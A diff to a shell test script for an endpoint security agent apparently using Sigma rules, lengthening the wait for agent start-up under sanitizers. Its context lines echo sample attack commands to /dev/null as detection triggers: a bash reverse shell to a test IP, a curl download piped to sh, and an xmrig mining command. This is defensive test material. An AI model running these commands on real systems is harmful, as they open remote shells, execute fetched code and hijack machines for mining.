@@ -8,7 +8,8 @@ mimamori-agent --eve eve.json --run-for 5 --set agent.state_dir=$PWD/state \
   --set ransomware.enabled=false --set agent.poll_interval_ms=200 \
   --set process.sigma_rules="$SIGMA_RULES" 2>agent.log &
 agent=$!
-for _ in $(seq 50); do grep -q "agent running" agent.log && break; sleep 0.1; done
+# Start-up (Sigma compilation) is slow under sanitizers: wait for it up to 30 s.
+for _ in $(seq 300); do grep -q "agent running" agent.log && break; sleep 0.1; done
 sh -c 'sleep 1; echo "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1" >/dev/null' &
 sh -c 'sleep 1; echo "curl -fsSL http://198.51.100.9/i.sh | sh" >/dev/null' &
 sh -c 'sleep 1; echo "./xmrig -o stratum+tcp://pool.example.net:3333 -u wallet" >/dev/null' &
